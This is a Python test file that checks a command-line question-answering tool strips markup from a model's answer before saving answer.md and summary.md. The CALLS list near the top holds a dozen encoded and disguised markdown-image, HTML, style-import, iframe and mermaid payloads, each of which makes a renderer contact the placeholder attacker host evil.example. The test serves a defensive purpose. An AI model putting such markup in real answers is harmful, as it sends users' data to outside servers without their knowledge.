"""A model's answer holds markup that makes whoever shows answer.md call a stranger's server."""

from __future__ import annotations

import re

from victim import Victim

CALLS = [
    "![x](https&colon;//evil.example/p.png?d=1)",
    "![x](https:&sol;&sol;evil.example/p.png)",
    "![x](https:evil.example/x)",
    "![x][r]\n\n[r]: https&#58;//evil.example/p.png",
    '<img src="https://evil.example/p.png">',
    '<style>@import "https://evil.example/p.css"</style>',
    "![x](\\/\\/evil.example/p.png)",
    "![[x]][r]",
    "<!-- hidden --><iframe src=//evil.example>",
    "a\u2028![x](https://evil.example/p.png)",
    "<https://evil.example/?d=1>",
    "``` mermaid\nA[<b style='background:url(https://evil.example)'>]\n```",
]


def test_an_answer_calls_nobody_when_it_is_shown(victim: Victim) -> None:
    victim.write("notes.txt", "the service is payments\n")
    text = "\n\n".join(CALLS) + "\n\nThe service is payments. [notes.txt:1-1]"
    model = victim.model("print(read_file('notes.txt'))", f"FINAL({text!r})")

    done = victim.sonde("ask", "Which service?", "notes.txt", "--runs-dir", victim.own, "--model", model.name)

    assert done.returncode == 0
    for name in ("answer.md", "summary.md"):
        shown = next(victim.own.rglob(name)).read_text()
        assert "payments" in shown
        assert not re.search(r"!\[[^\]]*\](\(|\[)", shown), shown
        assert not re.search(r"<\s*(img|style)", shown)
